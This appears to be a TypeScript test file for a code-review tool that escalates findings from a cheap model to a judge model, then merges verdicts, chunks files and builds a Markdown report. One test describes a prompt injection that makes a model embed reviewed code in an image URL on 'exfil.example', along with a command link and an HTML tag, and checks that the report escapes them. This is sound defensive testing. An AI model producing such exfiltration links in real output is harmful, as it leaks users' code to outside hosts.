import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Finding } from '../../../src/core/protocol';
import { buildDigest, chunkLines, digestChunks, escalationReason, judgmentReason, judgmentTally, locateInDigest, mergeVerdicts, provenance, reviewFindingsText, reviewReport, toldAsSentence, triage } from '../../../src/core/review';
import type { ReviewReport } from '../../../src/core/review';
import { findCodeRisks } from '../../../src/core/routing/codeRisks';
import type { Tier } from '../../../src/core/tiers';

function finding(overrides: Partial<Finding> = {}): Finding {
  return { file: 'src/a.ts', startLine: 3, endLine: 3, severity: 'medium', category: 'correctness', confidence: 0.8, message: 'off by one', ...overrides };
}

/** mergeVerdicts of a pass whose every part answered on `by`. */
function mergeAs(by: { tier: Tier; model: string }, kept: readonly Finding[], escalated: readonly { finding: Finding; reason: string }[], judge: Parameters<typeof mergeVerdicts>[2]): ReturnType<typeof mergeVerdicts> {
  const found = (f: Finding) => ({ ...f, foundBy: by.tier, foundByModel: by.model });
  return mergeVerdicts(kept.map(found), escalated.map((e) => ({ ...e, finding: found(e.finding) })), judge);
}

describe('review with escalation', () => {
  test('judgment reads the code when its constructs are risky, even if the cheap pass flagged nothing', () => {
    const risky = findCodeRisks('const shared = new Int32Array(new SharedArrayBuffer(4));\nexport const hit = () => Atomics.add(shared, 0, 1);');
    assert.equal(judgmentReason([], false, []), undefined, 'nothing flagged, plain code: the first pass stands');
    assert.equal(judgmentReason([], true, []), 'review pass 2: a security review is always judged');
    assert.match(judgmentReason([{ reason: 'high severity' }, { reason: 'high severity' }], false, risky) ?? '', /^review pass 2: 2 findings need judgment \(high severity\)$/);
    assert.equal(judgmentReason([], false, risky), 'review pass 2: the code synchronises threads (`SharedArrayBuffer`), and the first pass raised nothing that needs judgment');
  });

  test('security, concurrency, high severity and low confidence go to judgment; the rest stays', () => {
    assert.equal(escalationReason(finding({ category: 'security' })), 'security-related');
    assert.equal(escalationReason(finding({ category: 'concurrency' })), 'concurrency');
    assert.equal(escalationReason(finding({ severity: 'critical' })), 'critical severity');
    assert.match(escalationReason(finding({ confidence: 0.3 })) ?? '', /low confidence \(0\.30\)/);
    assert.equal(escalationReason(finding({ severity: 'low', category: 'style', confidence: 0.9 })), undefined);
    const { escalate, keep } = triage([finding({ category: 'security' }), finding({ category: 'style' })]);
    assert.equal(escalate.length, 1);
    assert.equal(keep.length, 1);
  });

  test('verdicts confirm, reject and rewrite by index; the judge may add; who found and who judged is kept', () => {
    const escalated = [
      { finding: finding({ category: 'security', message: 'SQL built from strings', startLine: 11 }), reason: 'security-related' },
      { finding: finding({ confidence: 0.3, message: 'maybe unused', startLine: 5 }), reason: 'low confidence' },
      { finding: finding({ severity: 'high', message: 'overstated', startLine: 7 }), reason: 'high severity' },
    ];
    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
      tier: 'O',
      model: 'opus',
      answer: {
        verdicts: [
          { index: 0, verdict: 'confirm' },
          { index: 1, verdict: 'reject' },
          { index: 2, verdict: 'rewrite', message: 'real but minor', severity: 'low' },
        ],
        added: [
          finding({ category: 'security', severity: 'high', message: 'innerHTML sink', startLine: 22 }),
          // The SQL finding it confirmed, "added" again: not a second problem.
          finding({ category: 'security', severity: 'critical', message: 'SQL injection', startLine: 11 }),
        ],
        summary: 'two real issues',
      },
    });
    assert.deepEqual(merged.rejected.map((f) => f.message), ['maybe unused']);
    const byMessage = new Map(merged.kept.map((f) => [f.message, f]));
    assert.equal(byMessage.get('SQL built from strings')?.confirmedByModel, 'opus');
    assert.equal(byMessage.get('SQL built from strings')?.foundByModel, 'haiku');
    assert.equal(byMessage.get('real but minor')?.severity, 'low');
    assert.equal(byMessage.get('innerHTML sink')?.foundBy, 'O');
    assert.equal(byMessage.get('off by one')?.confirmedBy, undefined, 'unescalated findings keep the first pass word');
    assert.deepEqual(merged.kept.map((f) => f.severity), ['high', 'medium', 'low', 'low'], 'most severe first; the SQL finding once');
  });

  test('a judge that rejects the first pass\'s reading and adds the real problem in its place keeps the real one; the same finding named by another path is one', () => {
    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ category: 'security', message: 'XSS via innerHTML (wrong: it is textContent)', startLine: 11 }), reason: 'security-related' }], {
      tier: 'O',
      model: 'opus',
      answer: {
        verdicts: [{ index: 0, verdict: 'reject' }],
        added: [finding({ category: 'security', severity: 'critical', message: 'SQL injection', startLine: 11 })],
        summary: 'one real issue',
      },
    });
    assert.deepEqual(merged.kept.map((f) => f.message), ['SQL injection']);
    assert.deepEqual(merged.rejected.map((f) => f.message), ['XSS via innerHTML (wrong: it is textContent)']);
    const twice = mergeAs({ tier: 'H', model: 'haiku' }, [], [{ finding: finding({ file: 'src/a.ts', category: 'security', startLine: 11 }), reason: 'security-related' }], {
      tier: 'O',
      model: 'opus',
      answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [finding({ file: 'a.ts', category: 'security', startLine: 11, message: 'SQLi' })], summary: 's' },
    });
    assert.equal(twice.kept.length, 1, 'a.ts and src/a.ts at line 11 are the same finding');
    // Two the judge adds at one line are two: only what it was sent and kept can repeat one.
    const added = mergeAs({ tier: 'H', model: 'haiku' }, [], [], {
      tier: 'O',
      model: 'opus',
      answer: { verdicts: [], added: [finding({ category: 'security', startLine: 5, message: 'one' }), finding({ category: 'security', startLine: 5, message: 'two' })], summary: 's' },
    });
    assert.deepEqual(added.kept.map((f) => f.message), ['one', 'two']);
  });

  test('without a judge, escalated findings are kept unconfirmed rather than dropped', () => {
    const merged = mergeAs({ tier: 'S', model: 'sonnet' }, [], [{ finding: finding({ category: 'security' }), reason: 'security-related' }], undefined);
    assert.equal(merged.kept.length, 1);
    assert.equal(merged.kept[0]?.confirmedBy, undefined);
    assert.equal(merged.kept[0]?.escalated, 'security-related');
    assert.equal(provenance(merged.kept[0]!), 'found by sonnet, not judged', 'and say so: judgment was meant to read them');
  });

  test('each finding is credited to the part that found it, whatever tier the other parts answered on', () => {
    const byOpus = { ...finding({ category: 'security', startLine: 2 }), foundBy: 'O' as const, foundByModel: 'opus' };
    const bySonnet = { ...finding({ category: 'security', startLine: 850 }), foundBy: 'S' as const, foundByModel: 'sonnet' };
    const merged = mergeVerdicts([byOpus], [{ finding: bySonnet, reason: 'security-related' }], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [], summary: 's' } });
    assert.deepEqual(merged.kept.map(provenance), ['found by opus', 'found by sonnet, confirmed by opus']);
  });

  test('the route of parts that went the same way is one line, naming the parts', () => {
    const part = (n: number, model = 'sonnet') => ({ model, tier: model === 'opus' ? 'judgment' : 'execute', reasons: [model === 'opus' ? 'escalated' : 'review pass 1'], part: n });
    const routes = (r: ReviewReport['routes']) => reviewReport({ title: 'Review', where: 'a.ts:1-2', summary: 's', kept: [], rejected: [], routes: r, calls: [] }).split('## Route\n\n')[1]!.split('\n\n')[0];
    assert.equal(routes(Array.from({ length: 7 }, (_, i) => part(i + 1))), '- parts 1-7: sonnet (execute): review pass 1');
    assert.equal(routes([part(1, 'opus'), part(2), part(3), part(4, 'opus'), part(5), { model: 'opus', tier: 'judgment', reasons: ['review pass 2'] }]),
      '- parts 1, 4: opus (judgment): escalated\n- parts 2-3, 5: sonnet (execute): review pass 1\n- opus (judgment): review pass 2');
    assert.equal(routes([{ model: 'haiku', tier: 'labour', reasons: ['review pass 1'] }]), '- haiku (labour): review pass 1', 'one part: no part named');
  });

  test('what a stopped pass said reads as a sentence of the summary; a model id it starts with keeps its case', () => {
    assert.equal(toldAsSentence('Ladder: claude-opus-4-8 is overloaded (529) after retries'), 'claude-opus-4-8 is overloaded (529) after retries.');
    assert.equal(toldAsSentence('cancelled'), 'Cancelled.');
    assert.equal(toldAsSentence('judgment\'s answer could not be read.'), 'Judgment\'s answer could not be read.');
  });

  test('long material is cut into whole-line chunks with their line numbers', () => {
    const text = Array.from({ length: 950 }, (_, i) => `line ${i + 10}`).join('\n');
    const chunks = chunkLines(text, 10, 400);
    assert.deepEqual(chunks.map((c) => [c.startLine, c.endLine]), [[10, 409], [410, 809], [810, 959]]);
    assert.equal(chunks[1]?.text.split('\n')[0], 'line 410');
    assert.equal(chunks.map((c) => c.text).join('\n'), text);
    // A whole file's final newline ends its last line: 800 lines are two parts, not three.
    const file = `${Array.from({ length: 800 }, (_, i) => `l${i + 1}`).join('\n')}\n`;
    assert.deepEqual(chunkLines(file, 1, 400).map((c) => [c.startLine, c.endLine]), [[1, 400], [401, 800]]);
  });

  test('the report lists each finding whole, says who found and who judged it, and totals the billed calls', () => {
    const escalated = [
      { finding: finding({ category: 'security', severity: 'critical', message: 'SQL built\nfrom <strings>', startLine: 11, endLine: 12 }), reason: 'security-related' },
      { finding: finding({ severity: 'high', message: 'overstated', startLine: 7 }), reason: 'high severity' },
    ];
    const merged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ category: 'style', severity: 'low', startLine: 1 })], escalated, {
      tier: 'O', model: 'opus',
      answer: { verdicts: [{ index: 0, verdict: 'confirm' }, { index: 1, verdict: 'reject' }], added: [finding({ message: 'missed null check', startLine: 20, endLine: 20 })], summary: 's' },
    });
    assert.deepEqual(merged.kept.map(provenance), ['found by haiku, confirmed by opus', 'added by opus', 'found by haiku']);
    assert.deepEqual(merged.rejected.map(provenance), ['found by haiku, rejected by opus']);
    // Ladder counts what judgment did from the merge, not from the judge's own summary.
    assert.equal(judgmentTally(merged), 'Judgment read 2 findings from the first pass: 1 confirmed, 0 rewritten, 1 rejected; it added 1. 3 findings in all.');
    // An "added" finding that repeats a kept one is dropped, so a judge claiming "1 added" may have added none.
    const repeat = mergeAs({ tier: 'H', model: 'haiku' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [{ ...escalated[0]!.finding }], summary: '1 confirmed; 1 added.' } });
    assert.equal(judgmentTally(repeat), 'Judgment read 1 finding from the first pass: 1 confirmed, 0 rewritten, 0 rejected; it added 0. 1 finding in all.');
    assert.equal(judgmentTally(mergeAs({ tier: 'H', model: 'haiku' }, [], [], { tier: 'O', model: 'opus', answer: { verdicts: [], added: [finding()], summary: '' } })),
      'Judgment checked the risky code the first pass raised nothing about; it added 1. 1 finding in all.');
    assert.equal(judgmentTally({ kept: [{ ...finding(), foundBy: 'H', foundByModel: 'haiku' }], rejected: [] }, true),
      'Judgment read the code (a security review is always judged); it added 0. 1 finding in all.');
    // A first pass that itself escalated to the judge's model: a confirmation, not an addition.
    const same = mergeAs({ tier: 'O', model: 'opus' }, [], [escalated[0]!], { tier: 'O', model: 'opus', answer: { verdicts: [{ index: 0, verdict: 'confirm' }], added: [], summary: 's' } });
    assert.deepEqual(same.kept.map(provenance), ['found by opus, confirmed by opus']);
    const report = reviewReport({
      title: 'Review with Escalation', where: 'src/a.ts:1-30', summary: 'Two real problems.', ...merged,
      routes: [{ model: 'haiku', tier: 'labour', reasons: ['review', 'labour'] }, { model: 'opus', tier: 'judgment', reasons: ['review pass 2'] }],
      calls: [{ model: 'haiku', costMicros: 1_234 }, { model: 'opus', costMicros: 20_000 }],
    });
    const lines = report.split('\n');
    assert.equal(lines[0], '# Review with Escalation: src/a.ts:1-30');
    assert.ok(lines.includes('## Findings (3)') && lines.includes('## Rejected by judgment (1)'));
    // A review of one file names only the lines of each finding; a folder's names the file too.
    assert.ok(lines.includes('1. **critical · security** · lines 11-12'), report);
    assert.ok(lines.includes('2. **medium · correctness** · line 20'), report);
    const folderReport = reviewReport({ title: 'Review with Escalation', where: 'src (2 files)', summary: 's', ...merged, routes: [], calls: [] });
    assert.ok(folderReport.includes('1. **critical · security** · `src/a.ts:11-12`'), folderReport);
    // A long path: the heading names the file, the path goes under it.
    const deep = `src/${'very-long-folder-name/'.repeat(4)}orders.ts:9-23`;
    assert.match(reviewReport({ title: 'Review File', where: deep, summary: 's', kept: [], rejected: [], routes: [], calls: [] }), new RegExp(`^# Review File: orders\\.ts:9-23\n\n\`${deep.replace(/[.]/g, '\\.')}\`\n`));
    // "No findings" once, not three times.
    assert.equal(reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 'No findings.', kept: [], rejected: [], routes: [], calls: [] }).split('No findings').length - 1, 1);
    // Model text stays on one line of its item and cannot open HTML in the preview.
    assert.ok(lines.includes('   SQL built from \\<strings>'));
    assert.ok(lines.includes('   *found by haiku, confirmed by opus (sent to judgment: security-related), confidence 0.80.*'));
    assert.ok(lines.includes('- opus (judgment): review pass 2'));
    const hint = lines.indexOf('_Each finding is also in the Problems view; the light bulb on it offers **Fix with Ladder**. To ask about them, run **Ladder: Ask a Follow-up**._');
    assert.ok(hint > lines.indexOf('## Findings (3)') && hint < lines.indexOf('## Rejected by judgment (1)'), 'the way to a fix and a follow-up, under the findings it is for');
    // A follow-up reads the summary and every finding, kept and rejected, without the report's title, hint, route or cost.
    const answer = reviewFindingsText({ where: 'src/a.ts:1-30', summary: 'Two real problems.', ...merged });
    // The same sections as the report, but the model reads its text as written, not escaped for the preview.
    assert.ok(report.includes(answer.replace('\n## Rejected', `\n${lines[hint]}\n\n## Rejected`).replace('SQL built from <strings>', 'SQL built from \\<strings>')), answer);
    assert.ok(answer.includes('   SQL built from <strings>') && !answer.includes('\\<'), answer);
    assert.match(answer, /^\*\*Summary\.\*\* Two real problems\.\n\n## Findings \(3\)\n/);
    assert.ok(!/Problems view|## Route|Task cost/.test(answer), answer);
    assert.ok(lines.includes('**Task cost: $0.0212** over 2 calls (haiku $0.0012, opus $0.0200).'), `the total and its calls to the same decimals: ${report}`);
    assert.match(reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 'Fine.', kept: [], rejected: [], routes: [], calls: [] }), /## Findings \(0\)\n\nNo findings\.\n/);
    assert.ok(!report.includes('## Not reviewed'), 'nothing to say when every file was read');
    // An attempt the API did not bill is counted apart and not listed at $0.
    const unbilled = reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 's', kept: [], rejected: [], routes: [], calls: [{ model: 'opus', costMicros: 0 }, { model: 'haiku', costMicros: 1_234 }] });
    assert.ok(unbilled.includes('**Task cost: $0.0012** over 1 call; 1 attempt not billed (haiku $0.0012).'), unbilled);
    // A code span is shown as written by the preview: `<` stays `<` there, and is escaped outside it.
    const spans = reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 'Use `i <= n && ok` not i < n & ok.', kept: [], rejected: [], routes: [], calls: [] });
    assert.ok(spans.includes('**Summary.** Use `i <= n && ok` not i \\< n \\& ok.'), spans);
    const folder = reviewReport({ title: 'Security Review', where: 'src (2 files)', summary: 'Fine.', kept: [], rejected: [], routes: [], calls: [], notReviewed: [{ path: 'src/keys.ts', why: 'it looks like it holds a key or token (AWS access key id (line 3))' }, { path: 'src/<big>.ts', why: 'only its first 100 characters were read' }, { path: '', why: '12 more files over the bounds' }] });
    assert.match(folder, /## Not reviewed\n\nNot sent to a model, or not whole; check these yourself\.\n\n- `src\/keys\.ts`: it looks like it holds a key or token \(AWS access key id \(line 3\)\)\n- `src\/<big>\.ts`: only its first 100 characters were read\n- 12 more files over the bounds\n\n## Route/);
  });

  test('model text in the report reads as text: no image to fetch, link, HTML, heading, list or quote; code spans stay', () => {
    // A prompt injection in the reviewed code can make the model put the code into an image URL,
    // which the preview would fetch as soon as it opens.
    const pixel = '![badge](https://exfil.example/pixel.png?code=function_total_price)';
    const judged = mergeAs({ tier: 'H', model: 'haiku' }, [finding({ message: `Leaks ${pixel} now`, startLine: 1, endLine: 1 }), finding({ message: '# Owned', startLine: 2, endLine: 2 }), finding({ message: '1. first - see //exfil.example/x or <https://exfil.example> or a@exfil.com' })], [], undefined);
    const report = reviewReport({
      title: 'Review File', where: 'src/a.ts:1-9', summary: 'Ask [here](command:ladder.setApiKey) or https://exfil.example/?q=`total_price` <img src=x> **now**', ...judged,
      routes: [{ model: 'haiku', tier: 'labour', reasons: ['the difficulty check agrees: > see ~~~ → Labour'] }], calls: [],
    });
    const lines = report.split('\n');
    assert.ok(lines.includes('   Leaks !\\[badge\\](https:\\//exfil.example/pixel.png?code=function_total_price) now'), report);
    assert.ok(lines.includes('   \\# Owned'), report);
    assert.ok(lines.includes('   1\\. first - see \\//exfil.example/x or \\<https:\\//exfil.example> or a\\@exfil.com'), report);
    assert.ok(lines.includes('**Summary.** Ask \\[here\\](command:ladder.setApiKey) or https:\\//exfil.example/?q=`total_price` \\<img src=x> \\*\\*now\\*\\*'), report);
    assert.ok(lines.includes('- haiku (labour): the difficulty check agrees: > see \\~\\~\\~ → Labour'), report);
    // Ladder's own markup is untouched, and a follow-up reads the model's text as written.
    assert.ok(lines.includes('1. **medium · correctness** · line 1') && lines.includes('## Findings (3)'), report);
    assert.ok(reviewFindingsText({ where: 'src/a.ts:1-9', summary: 's', ...judged }).includes(`   Leaks ${pixel} now`));
  });

  test('a digest of many files keeps where each file landed, and findings go back to their own file and line', () => {
    const { text, parts } = buildDigest([
      { path: 'src/a.ts', text: 'a1\na2\na3\n' },
      { path: 'src/b.ts', text: 'b1\r\nb2' },
    ]);
    assert.equal(text, '===== src/a.ts =====\na1\na2\na3\n\n===== src/b.ts =====\nb1\nb2');
    assert.deepEqual(parts, [{ path: 'src/a.ts', firstLine: 2, lastLine: 4 }, { path: 'src/b.ts', firstLine: 7, lastLine: 8 }]);
    const lines = text.split('\n');
    const at = (f: Partial<Finding>) => { const l = locateInDigest(finding(f), parts); return `${l.file}:${l.startLine}-${l.endLine}`; };
    // Digest lines (the file named is the digest's own, "." or the folder): to the file they fall in.
    assert.equal(lines[7 - 1], 'b1');
    assert.equal(at({ file: '.', startLine: 7, endLine: 8 }), 'src/b.ts:1-2');
    assert.equal(at({ file: 'src', startLine: 3, endLine: 3 }), 'src/a.ts:2-2');
    assert.equal(at({ file: '.', startLine: 6, endLine: 6 }), 'src/b.ts:1-1', 'a header line is its file\'s first line');
    assert.equal(at({ file: '.', startLine: 3, endLine: 7 }), 'src/a.ts:2-3', 'a range is cut at its file\'s end');
    assert.equal(at({ file: '.', startLine: 99, endLine: 99 }), 'src/b.ts:2-2');
    // A finding that names a file has that file's lines, as the model is asked…
    assert.equal(at({ file: 'src/b.ts', startLine: 2, endLine: 2 }), 'src/b.ts:2-2');
    assert.equal(at({ file: './src/a.ts', startLine: 1, endLine: 9 }), 'src/a.ts:1-3');
    // …unless its line lies past the file's end and inside the file's digest lines.
    assert.equal(at({ file: 'src/b.ts', startLine: 8, endLine: 8 }), 'src/b.ts:2-2');
    assert.deepEqual(locateInDigest(finding({ file: '.' }), []), finding({ file: '.' }), 'no parts: unchanged');
  });

  test('a folder is read in digests of whole files, long files in slices, and findings in a slice land on the file\'s own lines', () => {
    const lines = (n: number, tag: string) => Array.from({ length: n }, (_, i) => `${tag}${i + 1}`).join('\n');
    const chunks = digestChunks([
      { path: 'a.ts', text: lines(3, 'a') },
      { path: 'b.ts', text: lines(4, 'b') },
      { path: 'big.ts', text: lines(25, 'g') },
      { path: 'c.ts', text: lines(2, 'c') },
    ], 10);
    assert.deepEqual(chunks.map((c) => c.parts.map((p) => `${p.path}@${p.fromLine ?? 1}`)), [['a.ts@1', 'b.ts@1'], ['big.ts@1'], ['big.ts@11'], ['big.ts@21', 'c.ts@1']]);
    for (const c of chunks) assert.equal(c.text.split('\n').length, c.lines);
    // Every line of every file is in exactly one digest.
    assert.deepEqual(chunks.flatMap((c) => c.text.split('\n')).filter((l) => /^[abgc]\d+$/.test(l)).length, 3 + 4 + 25 + 2);
    const third = chunks[2]!;
    assert.equal(third.text.split('\n')[1], 'g11');
    const at = (f: Partial<Finding>) => { const l = locateInDigest(finding(f), third.parts); return `${l.file}:${l.startLine}-${l.endLine}`; };
    assert.equal(at({ file: '.', startLine: 2, endLine: 3 }), 'big.ts:11-12', 'digest lines of a slice');
    assert.equal(at({ file: 'big.ts', startLine: 15, endLine: 40 }), 'big.ts:15-20', 'file lines, cut at the slice');
    assert.equal(at({ file: 'big.ts', startLine: 3, endLine: 3 }), 'big.ts:12-12', 'a digest line given with the file name');
    assert.deepEqual(digestChunks([]), []);
  });
});
